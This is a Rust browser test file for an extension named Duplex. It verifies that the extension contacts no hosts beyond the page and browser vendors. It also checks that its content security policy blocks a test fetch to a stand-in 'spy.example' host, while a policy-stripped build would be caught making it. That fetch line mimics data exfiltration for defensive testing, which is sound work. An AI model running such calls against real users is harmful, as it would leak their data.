//! Nothing leaves: a browser in which everything of Duplex is used asks for its pages and for nothing else.
//!
//! The server that stands for every host writes down what it is asked. Every stage of the whole suite fails at its end
//! if the extension asked for anything (`Server`'s end); here it is also shown that this would be seen.

use browser_tests::Result;
use browser_tests::browser::Kind;
use browser_tests::feed::{PITCH, Post, TALK, page};
use browser_tests::hostile::{HOME, alive};
use browser_tests::package::Package;
use browser_tests::stage::{Stage, in_both};
use serde_json::{Value, json};

/// What a browser itself asks of its makers, extension or not.
const MAKERS: &[&str] = &[
    "mozilla.com",
    "mozilla.net",
    "mozilla.org",
    "firefox.com",
    "google.com",
    "googleapis.com",
    "gstatic.com",
    "gvt1.com",
    // The start page of Debian's Chromium.
    "duckduckgo.com",
];

fn posts() -> [Post<'static>; 2] {
    [(1, "Ada Brook", TALK), (2, "Loud Academy", PITCH)].map(|(id, author, text)| Post { id, author, text })
}

#[test]
fn everything_is_used_and_nothing_is_asked_for() {
    in_both(|kind| async move {
        let stage = Stage::open(kind, &["x.com"]).await?;
        stage
            .show(
                HOME,
                page(&posts(), None, "window.beats = 0; setInterval(() => beats++, 20)"),
            )
            .await?;
        stage.open_card().await?;
        let web = &stage.browser.web;
        for face in ["popup.html", "options.html", "report.html", "welcome.html"] {
            let opened = stage.open_face(face).await?;
            stage
                .until("return document.body.getAttribute('aria-busy') !== 'true'")
                .await?;
            // Whatever it has of links and buttons to the outside would be asked for now at the latest.
            stage.run("document.querySelectorAll('button:not([disabled])').forEach(button => /import|forget|clear/i.test(button.textContent) || button.click())").await?;
            web.switch_to_window(opened).await?;
            web.close_window().await?;
            stage.to_page().await?;
        }
        alive(&stage).await?;
        let strangers: Vec<String> = stage
            .server
            .requests()
            .into_iter()
            .filter(|request| request.is_by_an_extension() || !is_expected(&request.host))
            .map(|request| format!("{request:?}"))
            .collect();
        assert_eq!(strangers, Vec::<String>::new());
        assert!(
            stage
                .server
                .requests()
                .iter()
                .any(|request| request.host == "x.com"),
            "nothing was written down"
        );
        stage.close().await
    });
}

fn is_expected(host: &str) -> bool {
    let of = |maker: &&str| *host == **maker || host.ends_with(&format!(".{maker}"));
    host == "x.com" || MAKERS.iter().any(of)
}

const ASK: &str = "const done = arguments[0]; fetch('https://spy.example/told').then(() => done('asked'), error => done('refused ' + error.name));";

#[test]
fn an_extension_that_tried_would_be_stopped_and_one_without_our_policy_would_be_seen() {
    in_both(|kind| async move {
        // As shipped: its own policy stops it.
        let stage = Stage::open(kind, &["x.com", "spy.example"]).await?;
        let answer = asked(&stage).await?;
        assert_eq!(answer, "refused TypeError");
        assert!(
            !stage
                .server
                .requests()
                .iter()
                .any(|request| request.host == "spy.example")
        );
        stage.close().await?;
        // The same without the policy: the server sees it.
        let stage = Stage::of(without_policy(kind)?, kind).await?;
        asked(&stage).await?;
        let seen = stage.server.take_requests();
        let told = seen.iter().find(|request| request.host == "spy.example");
        assert!(
            told.is_some_and(|request| request.is_by_an_extension()),
            "{seen:?}"
        );
        stage.close().await
    });
}

async fn asked(stage: &Stage) -> Result<Value> {
    stage.inside().enter().await?;
    let answer = stage
        .browser
        .web
        .execute_async(ASK, Vec::new())
        .await?
        .json()
        .clone();
    stage.to_page().await?;
    Ok(answer)
}

fn without_policy(kind: Kind) -> Result<Package> {
    let package = Package::built(kind)?;
    let mut manifest: Value =
        serde_json::from_slice(&std::fs::read(package.folder().join("manifest.json"))?)?;
    manifest["content_security_policy"]["extension_pages"] =
        json!("script-src 'self' 'wasm-unsafe-eval'; object-src 'self'");
    manifest["host_permissions"] = json!(["https://spy.example/*"]);
    package.with_files(&[("manifest.json", manifest.to_string().as_bytes())])
}
